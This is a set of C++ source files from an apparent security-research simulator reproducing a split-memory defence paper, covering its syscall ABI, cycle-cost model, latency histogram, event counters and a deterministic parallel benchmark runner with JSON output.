// (0xFFFFFFFF == -1 on error). guest_syscall_equs() renders these numbers
// as assembler .equ lines so guest programs never hard-code them.
#pragma once

#include <string>

#include "arch/types.h"

namespace sm::kernel {

using arch::u32;

enum Syscall : u32 {
  kSysExit = 0,
  kSysWrite = 1,   // write(fd, buf, len) -> n
  kSysRead = 2,    // read(fd, buf, len) -> n (blocks; 0 on EOF)
  kSysOpen = 3,    // open(path, flags) -> fd
  kSysClose = 4,   // close(fd)
  kSysSpawnShell = 5,  // the attack goal: returns a shell fd over the net
  kSysFork = 6,
  kSysExec = 7,    // exec(path) — only returns -1 on error
  kSysWaitpid = 8, // waitpid(pid) -> exit code (blocks)
  kSysGetpid = 9,
  kSysBrk = 10,    // brk(new_end) -> heap end (new_end=0 queries)
  kSysMmap = 11,   // mmap(hint, len, prot) -> addr
  kSysMunmap = 12,
  kSysPipe = 13,   // pipe(fds_ptr) -> 0; writes two u32 fds
  kSysYield = 14,
  kSysTime = 15,   // simulated cycle counter (low 32 bits)
  kSysMprotect = 16,
  kSysDlopen = 17,  // dlopen(path) -> image base (signature-verified)
  kSysRegisterRecovery = 18,  // recovery response mode (paper §4.5 extension)
  kSysRand = 19,   // deterministic PRNG
  kSysSelect2 = 20,  // select2(fd_a, fd_b) -> 0 or 1: which fd is readable
                     // (or at EOF); blocks until one is. The event-driven
                     // server master multiplexes its listening channel and
                     // the workers' response pipe with this.
  kSysSleep = 21,    // sleep(cycles) -> 0: block until the virtual-time
                     // deadline now+cycles (deterministic timer wheel)
  kSysListen = 22,   // listen(port, backlog) -> listen fd; bounded accept
                     // queue, further connects refused while it is full
  kSysConnect = 23,  // connect(port) -> socket fd, or ERR_REFUSED when no
                     // listener is bound or its backlog is full (never
                     // blocks — the SYN-queue-overflow RST model)
  kSysAccept = 24,   // accept(lfd, timeout) -> socket fd; blocks until a
                     // connection is queued, ERR_TIMEDOUT after `timeout`
                     // cycles (0 = block forever)
  // Timeout-carrying forms of the two legacy blocking waits. Separate
  // numbers, not extra arguments on SYS_READ/SYS_SELECT2: the legacy
  // forms' unused argument registers carry live garbage in existing guest
  // programs, so retrofitting a timeout register would silently arm
  // timers all over the corpus.
  kSysReadT = 25,     // read_t(fd, buf, len, timeout) -> n | ERR_TIMEDOUT
  kSysSelect2T = 26,  // select2_t(fd_a, fd_b, timeout) -> 0|1|ERR_TIMEDOUT
};

// open() flags.
inline constexpr u32 kOpenRead = 0;
inline constexpr u32 kOpenWrite = 1;  // creates/truncates

// mmap()/mprotect() prot bits (match image::kProt*).
inline constexpr u32 kProtR = 1;
inline constexpr u32 kProtW = 2;
inline constexpr u32 kProtX = 4;

inline constexpr u32 kErrResult = 0xFFFFFFFFu;
// A blocking wait's timeout expired before the wait was satisfied (-2).
inline constexpr u32 kErrTimedOut = 0xFFFFFFFEu;
// connect() found no listener, or the listener's accept backlog was full
// (-3). Never delivered asynchronously: refusal is the immediate result.
inline constexpr u32 kErrRefused = 0xFFFFFFFDu;

// Fixed fd numbers at process start.
inline constexpr u32 kFdNet = 0;      // simulated socket (when attached)
inline constexpr u32 kFdConsole = 1;  // process console output

// Renders the ABI as assembler .equ directives for inclusion in guest code.
std::string guest_syscall_equs();

}  // namespace sm::kernel
