#include "metrics/cost_model.h"

namespace sm::metrics {

const CostModel& default_cost_model() {
  static const CostModel model{};
  return model;
}

}  // namespace sm::metrics
