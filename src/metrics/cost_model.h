// Cycle-cost model for the simulated machine.
//
// The paper evaluates a Linux kernel patch on a Pentium III; we evaluate a
// simulated machine, so absolute numbers are meaningless but the *structure*
// of the costs is preserved (see DESIGN.md §5):
//   - a TLB hit is free, a hardware page-table walk is cheap,
//   - a page-fault trap is expensive (kernel entry + handler + return),
//   - the split-memory D-TLB load costs one trap + a kernel "touch",
//   - the split-memory I-TLB load costs *two* traps (page fault + debug
//     interrupt), matching paper §4.6,
//   - a context switch reloads CR3 and therefore flushes both TLBs, which is
//     "the greatest cause of overhead in the implemented system".
#pragma once

#include <cstdint>

namespace sm::metrics {

struct CostModel {
  // Base execution.
  std::uint64_t cycles_per_instr = 1;

  // Address translation.
  std::uint64_t tlb_hit = 0;    // extra cycles on a TLB hit
  std::uint64_t tlb_walk = 24;  // hardware two-level page-table walk

  // Traps and kernel crossings. A fault on the Pentium III class machine
  // the paper measured costs on the order of a thousand cycles once the
  // handler work is included; the split D-TLB load pays one of these, the
  // split I-TLB load pays two.
  std::uint64_t trap_cost = 1200;    // fault entry + handler + return
  std::uint64_t syscall_cost = 150;  // lighter-weight kernel crossing
  std::uint64_t kernel_touch = 30;   // the "read a byte" page-table walk in
                                     // the split D-TLB load (Algorithm 1)

  // Kernel memory-management work.
  std::uint64_t demand_page = 500;  // allocate + fill one frame
  std::uint64_t cow_copy = 800;     // copy-on-write duplication
  std::uint64_t icache_sync = 2600; // i-cache/pipeline flush when the OS
                                    // writes a code page (the cost that
                                    // sank the paper's ret-call I-TLB
                                    // loading experiment, SS4.2.4)
  std::uint64_t soft_tlb_fill = 40; // SPARC-style software TLB-fill trap
                                    // (paper SS4.7)

  // Scheduling.
  std::uint64_t context_switch = 4000;  // scheduler + CR3 reload (TLB flush)
  std::uint64_t timeslice_instructions = 50000;

  // SMP. An inter-processor interrupt (TLB shootdown) costs a kernel
  // crossing on the sender plus the target's interrupt entry/ack; zero
  // cost at cores=1, where no IPIs are ever sent.
  std::uint64_t ipi = 500;

  // Network/IO model used by the webserver harness (Fig. 8): a response is
  // not complete before its bytes drain through the link, so large responses
  // hide CPU overhead exactly as the paper's saturated 100 MBit NIC does.
  double net_bytes_per_cycle = 0.145;
  std::uint64_t net_request_latency = 500;
};

// The default model, tuned so the stand-alone split-memory ratios land in
// the paper's bands (see EXPERIMENTS.md for the calibration record).
const CostModel& default_cost_model();

}  // namespace sm::metrics
