#include "metrics/latency_histogram.h"

#include <bit>

namespace sm::metrics {

namespace {

// Octaves [2^6, 2^7) .. [2^63, 2^64) after the linear region.
constexpr std::uint32_t kFirstOctave = 6;  // log2(kLinear)
constexpr std::uint32_t kOctaves = 64 - kFirstOctave;
constexpr std::uint32_t kBuckets =
    LatencyHistogram::kLinear + kOctaves * LatencyHistogram::kSubBuckets;

}  // namespace

LatencyHistogram::LatencyHistogram() : counts_(kBuckets, 0) {}

std::uint32_t LatencyHistogram::bucket_of(std::uint64_t value) {
  if (value < kLinear) return static_cast<std::uint32_t>(value);
  const std::uint32_t k = static_cast<std::uint32_t>(std::bit_width(value)) - 1;
  const std::uint32_t sub = static_cast<std::uint32_t>(
      (value - (std::uint64_t{1} << k)) >> (k - 5));
  return kLinear + (k - kFirstOctave) * kSubBuckets + sub;
}

std::uint64_t LatencyHistogram::bucket_upper(std::uint32_t index) {
  if (index < kLinear) return index;
  const std::uint32_t g = index - kLinear;
  const std::uint32_t k = kFirstOctave + g / kSubBuckets;
  const std::uint64_t sub = g % kSubBuckets;
  // For the top bucket this wraps to exactly 2^64-1, which is the intent.
  return (std::uint64_t{1} << k) + ((sub + 1) << (k - 5)) - 1;
}

void LatencyHistogram::record(std::uint64_t value) {
  ++counts_[bucket_of(value)];
  ++count_;
  sum_ += value;
  if (count_ == 1 || value < min_) min_ = value;
  if (value > max_) max_ = value;
}

std::uint64_t LatencyHistogram::quantile(double q) const {
  if (count_ == 0) return 0;
  if (q < 0) q = 0;
  if (q > 1) q = 1;
  // Rank of the target sample, 1-based; ceil without FP edge cases.
  std::uint64_t rank = static_cast<std::uint64_t>(q * static_cast<double>(count_));
  if (static_cast<double>(rank) < q * static_cast<double>(count_)) ++rank;
  if (rank == 0) rank = 1;
  std::uint64_t seen = 0;
  for (std::uint32_t i = 0; i < counts_.size(); ++i) {
    seen += counts_[i];
    if (seen >= rank) return bucket_upper(i);
  }
  return max_;
}

}  // namespace sm::metrics
