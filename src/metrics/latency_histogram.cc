#include "metrics/latency_histogram.h"

#include <bit>

namespace sm::metrics {

namespace {

// Octaves [2^6, 2^7) .. [2^31, 2^32) after the linear region, then one
// pinned overflow bucket for everything >= kMaxTracked.
constexpr std::uint32_t kFirstOctave = 6;  // log2(kLinear)
constexpr std::uint32_t kOctaves = 32 - kFirstOctave;
constexpr std::uint32_t kBuckets =
    LatencyHistogram::kLinear + kOctaves * LatencyHistogram::kSubBuckets + 1;
constexpr std::uint32_t kOverflowBucket = kBuckets - 1;

}  // namespace

LatencyHistogram::LatencyHistogram() : counts_(kBuckets, 0) {}

std::uint32_t LatencyHistogram::bucket_of(std::uint64_t value) {
  if (value < kLinear) return static_cast<std::uint32_t>(value);
  if (value >= kMaxTracked) return kOverflowBucket;  // saturate, pinned
  const std::uint32_t k = static_cast<std::uint32_t>(std::bit_width(value)) - 1;
  const std::uint32_t sub = static_cast<std::uint32_t>(
      (value - (std::uint64_t{1} << k)) >> (k - 5));
  return kLinear + (k - kFirstOctave) * kSubBuckets + sub;
}

std::uint64_t LatencyHistogram::bucket_upper(std::uint32_t index) {
  if (index < kLinear) return index;
  if (index >= kOverflowBucket) return ~std::uint64_t{0};
  const std::uint32_t g = index - kLinear;
  const std::uint32_t k = kFirstOctave + g / kSubBuckets;
  const std::uint64_t sub = g % kSubBuckets;
  return (std::uint64_t{1} << k) + ((sub + 1) << (k - 5)) - 1;
}

void LatencyHistogram::record(std::uint64_t value) {
  ++counts_[bucket_of(value)];
  ++count_;
  sum_ += value;
  if (count_ == 1 || value < min_) min_ = value;
  if (value > max_) max_ = value;
}

std::uint64_t LatencyHistogram::quantile(double q) const {
  if (count_ == 0) return 0;
  if (q < 0) q = 0;
  if (q > 1) q = 1;
  // Rank of the target sample, 1-based; ceil without FP edge cases.
  std::uint64_t rank = static_cast<std::uint64_t>(q * static_cast<double>(count_));
  if (static_cast<double>(rank) < q * static_cast<double>(count_)) ++rank;
  if (rank == 0) rank = 1;
  std::uint64_t seen = 0;
  for (std::uint32_t i = 0; i < counts_.size(); ++i) {
    seen += counts_[i];
    // The overflow bucket has no meaningful upper bound; the true
    // recorded maximum is the tightest honest answer there.
    if (seen >= rank) return i == kOverflowBucket ? max_ : bucket_upper(i);
  }
  return max_;
}

}  // namespace sm::metrics
