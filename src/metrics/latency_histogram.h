// Log-bucketed latency histogram for the server-load benchmark.
//
// Tail-latency quantiles (p99, p999) over 10^5-10^6 requests must not
// store every sample, and must be deterministic: two runs that record the
// same multiset of values report bit-identical quantiles regardless of
// arrival order, host, or --jobs. So the histogram is pure integer
// arithmetic — HDR-style log-linear buckets: values below 64 are exact
// (one bucket each), and every power-of-two range above that is divided
// into 32 equal sub-buckets, bounding the relative quantile error at
// 1/32 (~3%). The tracked range is [0, 2^32): anything past that — e.g.
// pathological overload latencies — saturates into one pinned overflow
// bucket instead of relying on in-range inputs, and max_recorded() still
// reports the true maximum.
#pragma once

#include <cstdint>
#include <vector>

namespace sm::metrics {

class LatencyHistogram {
 public:
  // Values 0..kLinear-1 get exact buckets; each [2^k, 2^(k+1)) above is
  // split into kSubBuckets equal slices.
  static constexpr std::uint32_t kLinear = 64;
  static constexpr std::uint32_t kSubBuckets = 32;
  // First value that saturates into the pinned overflow bucket.
  static constexpr std::uint64_t kMaxTracked = std::uint64_t{1} << 32;

  LatencyHistogram();

  void record(std::uint64_t value);

  std::uint64_t count() const { return count_; }
  std::uint64_t sum() const { return sum_; }
  std::uint64_t min() const { return count_ == 0 ? 0 : min_; }
  std::uint64_t max() const { return max_; }
  // The true maximum ever recorded — meaningful even when samples
  // saturated past kMaxTracked into the overflow bucket.
  std::uint64_t max_recorded() const { return max_; }
  // Samples that landed in the pinned overflow bucket (>= kMaxTracked).
  std::uint64_t overflow() const { return counts_.back(); }
  // Raw bucket counts (drift guards compare these for exact equality).
  const std::vector<std::uint64_t>& buckets() const { return counts_; }
  double mean() const {
    return count_ == 0 ? 0 : static_cast<double>(sum_) / count_;
  }

  // Smallest recorded-bucket upper bound v such that at least q*count of
  // the samples are <= v. q in [0,1]; returns 0 on an empty histogram.
  // Deterministic: a pure function of the recorded multiset.
  std::uint64_t quantile(double q) const;
  std::uint64_t percentile(double p) const { return quantile(p / 100.0); }

  // Bucket mapping (exposed for the unit tests).
  static std::uint32_t bucket_of(std::uint64_t value);
  static std::uint64_t bucket_upper(std::uint32_t index);

 private:
  std::vector<std::uint64_t> counts_;
  std::uint64_t count_ = 0;
  std::uint64_t sum_ = 0;
  std::uint64_t min_ = 0;
  std::uint64_t max_ = 0;
};

}  // namespace sm::metrics
