#include "metrics/stats.h"

#include <ostream>

namespace sm::metrics {

std::ostream& operator<<(std::ostream& os, const Stats& s) {
  os << "cycles=" << s.cycles << " instructions=" << s.instructions
     << " itlb(h/m)=" << s.itlb_hits << "/" << s.itlb_misses
     << " dtlb(h/m)=" << s.dtlb_hits << "/" << s.dtlb_misses
     << " walks=" << s.hardware_walks << " page_faults=" << s.page_faults
     << " split_loads(d/i)=" << s.split_dtlb_loads << "/"
     << s.split_itlb_loads << " single_steps=" << s.single_steps
     << " demand=" << s.demand_pages << " cow=" << s.cow_copies
     << " syscalls=" << s.syscalls << " ctxsw=" << s.context_switches
     << " detections=" << s.injections_detected
     << " decode$(h/m/inv)=" << s.decode_cache_hits << "/"
     << s.decode_cache_misses << "/" << s.decode_cache_invalidations
     << " block$(h/m/inv)=" << s.block_cache_hits << "/"
     << s.block_cache_misses << "/" << s.block_cache_invalidations
     << " block_instr=" << s.block_instructions
     << " fetch_fast=" << s.fetch_fastpath_hits
     << " data_fast=" << s.data_fastpath_hits
     << " wake_checks=" << s.sched_wake_checks;
  if (s.faults_injected || s.invariant_violations || s.invariant_recoveries ||
      s.invariant_degradations || s.split_oom_degradations) {
    os << " faults=" << s.faults_injected
       << " inv(viol/rec/deg)=" << s.invariant_violations << "/"
       << s.invariant_recoveries << "/" << s.invariant_degradations
       << " oom_deg=" << s.split_oom_degradations;
  }
  if (s.timer_fires || s.wait_timeouts || s.sleeps || s.idle_advances ||
      s.sock_connects || s.sock_refused || s.sock_accepts) {
    os << " timers(fire/timeout/sleep/idle)=" << s.timer_fires << "/"
       << s.wait_timeouts << "/" << s.sleeps << "/" << s.idle_advances
       << " sock(conn/ref/acc)=" << s.sock_connects << "/" << s.sock_refused
       << "/" << s.sock_accepts << " backlog_peak=" << s.sock_backlog_peak;
  }
  if (s.ipi_sends || s.ipi_acks || s.tlb_shootdowns || s.work_steals) {
    os << " ipi(send/ack)=" << s.ipi_sends << "/" << s.ipi_acks
       << " shootdowns=" << s.tlb_shootdowns << " steals=" << s.work_steals;
  }
  return os;
}

}  // namespace sm::metrics
