// Event counters and the simulated cycle clock.
//
// Every architectural and kernel event of interest is counted here so tests
// can pin behaviour ("exactly two traps per split I-TLB load") and benches
// can report where time went.
#pragma once

#include <cstdint>
#include <iosfwd>

namespace sm::metrics {

struct Stats {
  // Simulated time.
  std::uint64_t cycles = 0;

  // CPU.
  std::uint64_t instructions = 0;

  // TLB.
  std::uint64_t itlb_hits = 0;
  std::uint64_t itlb_misses = 0;
  std::uint64_t dtlb_hits = 0;
  std::uint64_t dtlb_misses = 0;
  std::uint64_t tlb_flushes = 0;
  std::uint64_t hardware_walks = 0;

  // Host-side fast paths (simulator speed only; these add NO cycles —
  // every event here is billed as the slow path it short-circuits).
  std::uint64_t fetch_fastpath_hits = 0;  // Mmu one-entry fetch memo
  std::uint64_t data_fastpath_hits = 0;   // Mmu read/write data memos
  std::uint64_t decode_cache_hits = 0;
  std::uint64_t decode_cache_misses = 0;
  std::uint64_t decode_cache_invalidations = 0;  // stale frame generation
  std::uint64_t block_cache_hits = 0;    // basic-block cache (mini-DBT)
  std::uint64_t block_cache_misses = 0;  // entry probes that recorded
  std::uint64_t block_cache_invalidations = 0;  // stale gen / mid-block SMC
  std::uint64_t block_instructions = 0;  // instructions run from a block

  // Faults and kernel crossings.
  std::uint64_t page_faults = 0;
  std::uint64_t split_dtlb_loads = 0;
  std::uint64_t split_itlb_loads = 0;
  std::uint64_t split_dtlb_fallbacks = 0;  // footnote-1 single-step path
  std::uint64_t soft_tlb_fills = 0;        // software-TLB mode (SS4.7)
  std::uint64_t single_steps = 0;
  std::uint64_t demand_pages = 0;
  std::uint64_t cow_copies = 0;
  std::uint64_t syscalls = 0;
  std::uint64_t invalid_opcode_faults = 0;

  // Scheduling.
  std::uint64_t context_switches = 0;
  // Host-side (bills NO cycles): wake-queue entries examined when an event
  // (pipe write/read/close, child exit, host channel traffic) tries to wake
  // sleepers. With event-driven wait queues this scales with the number of
  // processes actually waiting on the object, not with the process count —
  // the O(1)-scheduling regression test pins it.
  std::uint64_t sched_wake_checks = 0;

  // Security events.
  std::uint64_t injections_detected = 0;

  // Robustness: fault injection and the invariant watchdog. These count
  // simulated *hardware/OS misbehaviour* and the kernel's response to it;
  // they are zero in any run without an armed fault schedule.
  std::uint64_t faults_injected = 0;
  std::uint64_t invariant_violations = 0;    // watchdog detections
  std::uint64_t invariant_recoveries = 0;    // resynced, split kept
  std::uint64_t invariant_degradations = 0;  // page locked unsplit
  std::uint64_t split_oom_degradations = 0;  // code frame alloc failed

  // Overload machinery: virtual-time timers and the simulated socket
  // layer (deadline wheel, SYS_SLEEP, accept queues — DESIGN.md §17).
  // All zero in any run that arms no timer and opens no socket.
  std::uint64_t timer_fires = 0;      // wheel deadlines reached
  std::uint64_t wait_timeouts = 0;    // blocked waits returning ERR_TIMEDOUT
  std::uint64_t sleeps = 0;           // SYS_SLEEP calls that parked
  std::uint64_t idle_advances = 0;    // all-blocked jumps to the next deadline
  std::uint64_t sock_connects = 0;    // connections queued on a backlog
  std::uint64_t sock_refused = 0;     // connects shed (no listener/queue full)
  std::uint64_t sock_accepts = 0;     // connections popped by accept()
  std::uint64_t sock_backlog_peak = 0;  // deepest accept queue ever observed

  // SMP: IPI-based TLB shootdown traffic and cross-core scheduling. All
  // zero at cores=1 (no remote cores to interrupt or steal from).
  std::uint64_t ipi_sends = 0;       // shootdown IPIs delivered to targets
  std::uint64_t ipi_acks = 0;        // targets that flushed and acked
  std::uint64_t tlb_shootdowns = 0;  // shootdown rounds with >= 1 target
  std::uint64_t work_steals = 0;     // processes stolen from another core

  void reset() { *this = Stats{}; }
};

std::ostream& operator<<(std::ostream& os, const Stats& s);

}  // namespace sm::metrics
