#include "runner/experiment_runner.h"

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <exception>
#include <mutex>
#include <stdexcept>
#include <thread>

namespace sm::runner {

namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}

[[noreturn]] void usage_and_exit(const char* bench_name,
                                 const char* description, int code) {
  std::FILE* out = code == 0 ? stdout : stderr;
  std::fprintf(out,
               "%s — %s\n"
               "\n"
               "Flags (shared across all bench binaries):\n"
               "  --jobs=N, --jobs N   worker threads for the sweep fan-out\n"
               "                       (default/0: hardware_concurrency).\n"
               "                       Simulated output is byte-identical\n"
               "                       for every N — only wall-clock "
               "changes.\n"
               "  --json <path>        write a JSON result sidecar "
               "(schema:\n"
               "                       DESIGN.md §9; merged into\n"
               "                       BENCH_figures.json by "
               "tools/bench_json.py --figures).\n"
               "  --quick              reduced point set (the bench_smoke\n"
               "                       ctest target).\n"
               "  --no-progress        suppress per-point stderr progress "
               "lines.\n"
               "  --trace-summary      append a cycle-attribution breakdown\n"
               "                       (paper SS4.6) for key protected "
               "points;\n"
               "                       requires tracing compiled in "
               "(SM_TRACE=ON).\n"
               "  --cores=N, --cores N simulated cores for benches that "
               "support\n"
               "                       SMP (0/absent: the bench's default,\n"
               "                       single-core). --cores=1 output is\n"
               "                       byte-identical to omitting the flag.\n"
               "  --help               this text.\n",
               bench_name, description);
  std::exit(code);
}

}  // namespace

RunnerOptions parse_runner_args(int argc, char** argv, const char* bench_name,
                                const char* description) {
  RunnerOptions opts;
  opts.bench_name = bench_name;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    auto value_of = [&](const char* flag) -> std::string {
      const std::string prefix = std::string(flag) + "=";
      if (arg.rfind(prefix, 0) == 0) return arg.substr(prefix.size());
      if (arg == flag) {
        if (i + 1 >= argc) {
          std::fprintf(stderr, "%s: %s requires a value\n", bench_name, flag);
          usage_and_exit(bench_name, description, 2);
        }
        return argv[++i];
      }
      return {};
    };
    if (arg == "--help" || arg == "-h") {
      usage_and_exit(bench_name, description, 0);
    } else if (arg == "--quick") {
      opts.quick = true;
    } else if (arg == "--no-progress") {
      opts.progress = false;
    } else if (arg == "--trace-summary") {
      opts.trace_summary = true;
    } else if (arg == "--jobs" || arg.rfind("--jobs=", 0) == 0) {
      const std::string v = value_of("--jobs");
      char* end = nullptr;
      const unsigned long n = std::strtoul(v.c_str(), &end, 10);
      if (v.empty() || end == nullptr || *end != '\0') {
        std::fprintf(stderr, "%s: bad --jobs value '%s'\n", bench_name,
                     v.c_str());
        usage_and_exit(bench_name, description, 2);
      }
      opts.jobs = static_cast<arch::u32>(n);
    } else if (arg == "--cores" || arg.rfind("--cores=", 0) == 0) {
      const std::string v = value_of("--cores");
      char* end = nullptr;
      const unsigned long n = std::strtoul(v.c_str(), &end, 10);
      if (v.empty() || end == nullptr || *end != '\0' || n == 0 || n > 32) {
        std::fprintf(stderr, "%s: bad --cores value '%s' (want 1..32)\n",
                     bench_name, v.c_str());
        usage_and_exit(bench_name, description, 2);
      }
      opts.cores = static_cast<arch::u32>(n);
    } else if (arg == "--json" || arg.rfind("--json=", 0) == 0) {
      opts.json_path = value_of("--json");
      if (opts.json_path.empty()) {
        std::fprintf(stderr, "%s: --json requires a path\n", bench_name);
        usage_and_exit(bench_name, description, 2);
      }
    } else {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", bench_name,
                   arg.c_str());
      usage_and_exit(bench_name, description, 2);
    }
  }
  return opts;
}

ExperimentRunner::ExperimentRunner(RunnerOptions opts)
    : opts_(std::move(opts)) {
  jobs_ = opts_.jobs;
  if (jobs_ == 0) {
    const unsigned hw = std::thread::hardware_concurrency();
    jobs_ = hw == 0 ? 1 : static_cast<arch::u32>(hw);
  }
}

ResultTable ExperimentRunner::run(const std::vector<SweepPoint>& points) {
  const Clock::time_point sweep_t0 = Clock::now();
  std::vector<PointRecord> records(points.size());
  struct Failure {
    std::size_t index;
    std::exception_ptr error;
  };
  std::vector<Failure> failures;
  std::mutex mu;  // guards `failures`, progress output and `done` counter
  std::size_t done = 0;
  std::atomic<std::size_t> next{0};

  auto worker = [&] {
    for (;;) {
      const std::size_t i = next.fetch_add(1, std::memory_order_relaxed);
      if (i >= points.size()) return;
      const Clock::time_point t0 = Clock::now();
      PointRecord& rec = records[i];
      rec.label = points[i].label;
      try {
        rec.result = points[i].run();
      } catch (...) {
        std::lock_guard<std::mutex> lock(mu);
        failures.push_back({i, std::current_exception()});
        ++done;
        continue;
      }
      rec.wall_seconds = seconds_since(t0);
      if (opts_.progress) {
        std::lock_guard<std::mutex> lock(mu);
        ++done;
        std::fprintf(stderr, "[%s %zu/%zu] %s (%.2fs)\n",
                     opts_.bench_name.c_str(), done, points.size(),
                     rec.label.c_str(), rec.wall_seconds);
      } else {
        std::lock_guard<std::mutex> lock(mu);
        ++done;
      }
    }
  };

  const std::size_t workers =
      std::min<std::size_t>(jobs_, points.size() == 0 ? 1 : points.size());
  if (workers <= 1) {
    worker();  // --jobs=1: run inline, no threads at all
  } else {
    std::vector<std::thread> pool;
    pool.reserve(workers);
    for (std::size_t w = 0; w < workers; ++w) pool.emplace_back(worker);
    for (std::thread& t : pool) t.join();
  }

  points_run_ += points.size();
  wall_seconds_ += seconds_since(sweep_t0);

  if (!failures.empty()) {
    // Deterministic error surface: always the lowest-index failure,
    // labelled with its point, regardless of --jobs.
    const Failure* first = &failures.front();
    for (const Failure& f : failures) {
      if (f.index < first->index) first = &f;
    }
    try {
      std::rethrow_exception(first->error);
    } catch (const std::exception& e) {
      throw std::runtime_error("sweep point '" + records[first->index].label +
                               "' failed: " + e.what());
    } catch (...) {
      throw std::runtime_error("sweep point '" + records[first->index].label +
                               "' failed: non-standard exception");
    }
  }

  ResultTable table;
  table.reserve(records.size());
  for (PointRecord& rec : records) table.add(std::move(rec));
  return table;
}

void ExperimentRunner::report(const ResultTable& table) const {
  if (!opts_.json_path.empty()) {
    if (!table.write_json(opts_.json_path, opts_.bench_name, jobs_,
                          wall_seconds_)) {
      std::fprintf(stderr, "[%s] failed to write %s\n",
                   opts_.bench_name.c_str(), opts_.json_path.c_str());
    }
  }
  std::fprintf(stderr, "[%s] %zu points, jobs=%u, wall %.2fs\n",
               opts_.bench_name.c_str(), points_run_, jobs_, wall_seconds_);
}

}  // namespace sm::runner
