// Host-parallel experiment runner for the figure/table/ablation benches.
//
// Every sweep point of the paper's evaluation battery is a fully
// self-contained simulation — each thunk constructs its own Kernel, Mmu,
// Tlb and Stats, and `src/` has no mutable globals — so fanning the points
// out across a std::thread pool cannot change any simulated number. The
// runner's determinism contract (tested in ctest, documented in DESIGN.md
// §9) is:
//
//   `--jobs=N` stdout is byte-identical to `--jobs=1` stdout.
//
// It holds because results are collected into a ResultTable by submission
// index (never completion order), table text is assembled only after the
// pool drains, and the only nondeterministic outputs — per-point progress
// lines and the wall-clock summary — go to stderr.
//
// A point that throws is recorded; after the pool drains the runner
// rethrows the lowest-index failure as a std::runtime_error prefixed with
// the failing point's label (so `--jobs` does not change which error
// surfaces either).
//
// Shared CLI convention (also honoured by bench/microbench):
//   --jobs=N        worker threads (0 or absent = hardware_concurrency)
//   --json <path>   write the ResultTable JSON sidecar for bench_json.py
//   --quick         reduced point set (bench_smoke ctest target)
//   --no-progress   suppress stderr progress lines
//   --trace-summary re-run key points serially with tracing enabled and
//                   print a §4.6 cycle-attribution breakdown (off by
//                   default so stdout stays byte-identical without it)
//   --help          per-binary flag documentation
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "arch/types.h"
#include "runner/result_table.h"

namespace sm::runner {

struct SweepPoint {
  std::string label;
  std::function<PointResult()> run;
};

struct RunnerOptions {
  arch::u32 jobs = 0;   // 0 = hardware_concurrency (min 1)
  arch::u32 cores = 0;  // simulated cores (0 = bench default, single-core)
  bool progress = true;
  bool quick = false;
  bool trace_summary = false;  // honoured by benches that support it
  std::string json_path;   // empty = no JSON sidecar
  std::string bench_name;  // filled by parse_runner_args
};

// Parses the shared bench CLI (see header comment). Prints documentation
// and exits(0) on --help; prints usage to stderr and exits(2) on an
// unknown flag or malformed value.
RunnerOptions parse_runner_args(int argc, char** argv, const char* bench_name,
                                const char* description);

class ExperimentRunner {
 public:
  explicit ExperimentRunner(RunnerOptions opts);

  // Executes the points on the pool and returns the table, in index order.
  // Multiple run() calls accumulate wall_seconds (staged sweeps).
  ResultTable run(const std::vector<SweepPoint>& points);

  arch::u32 jobs() const { return jobs_; }
  double wall_seconds() const { return wall_seconds_; }

  // Writes the JSON sidecar when --json was given and prints the stderr
  // wall-clock summary. Call once, after the last run().
  void report(const ResultTable& table) const;

 private:
  RunnerOptions opts_;
  arch::u32 jobs_;
  std::size_t points_run_ = 0;
  double wall_seconds_ = 0;
};

}  // namespace sm::runner
