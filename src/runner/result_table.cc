#include "runner/result_table.h"

#include <cmath>
#include <cstdarg>

namespace sm::runner {

std::string strf(const char* fmt, ...) {
  va_list args;
  va_start(args, fmt);
  va_list copy;
  va_copy(copy, args);
  const int n = std::vsnprintf(nullptr, 0, fmt, copy);
  va_end(copy);
  std::string out;
  if (n > 0) {
    out.resize(static_cast<std::size_t>(n));
    std::vsnprintf(out.data(), out.size() + 1, fmt, args);
  }
  va_end(args);
  return out;
}

double metric(const PointRecord& rec, const std::string& name, double def) {
  for (const Metric& m : rec.result.metrics) {
    if (m.name == name) return m.value;
  }
  return def;
}

void ResultTable::print(std::FILE* out) const {
  for (const PointRecord& p : points_) {
    if (!p.result.text.empty()) {
      std::fwrite(p.result.text.data(), 1, p.result.text.size(), out);
    }
  }
  std::fflush(out);
}

namespace {

std::string json_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          out += strf("\\u%04x", c);
        } else {
          out += c;
        }
    }
  }
  return out;
}

std::string json_number(double v) {
  if (!std::isfinite(v)) return "null";
  if (v == std::floor(v) && std::fabs(v) < 9.007199254740992e15) {
    return strf("%.0f", v);
  }
  return strf("%.17g", v);
}

}  // namespace

std::string ResultTable::to_json(const std::string& bench_name, arch::u32 jobs,
                                 double wall_seconds) const {
  std::string out = "{\n";
  out += strf("  \"name\": \"%s\",\n", json_escape(bench_name).c_str());
  out += strf("  \"jobs\": %u,\n", jobs);
  out += strf("  \"wall_seconds\": %.6f,\n", wall_seconds);
  out += "  \"points\": [\n";
  for (std::size_t i = 0; i < points_.size(); ++i) {
    const PointRecord& p = points_[i];
    out += strf("    {\"label\": \"%s\", \"wall_seconds\": %.6f, "
                "\"metrics\": {",
                json_escape(p.label).c_str(), p.wall_seconds);
    for (std::size_t m = 0; m < p.result.metrics.size(); ++m) {
      if (m != 0) out += ", ";
      out += strf("\"%s\": %s",
                  json_escape(p.result.metrics[m].name).c_str(),
                  json_number(p.result.metrics[m].value).c_str());
    }
    out += i + 1 < points_.size() ? "}},\n" : "}}\n";
  }
  out += "  ]\n}\n";
  return out;
}

bool ResultTable::write_json(const std::string& path,
                             const std::string& bench_name, arch::u32 jobs,
                             double wall_seconds) const {
  std::FILE* f = std::fopen(path.c_str(), "w");
  if (!f) return false;
  const std::string doc = to_json(bench_name, jobs, wall_seconds);
  const bool ok = std::fwrite(doc.data(), 1, doc.size(), f) == doc.size();
  return std::fclose(f) == 0 && ok;
}

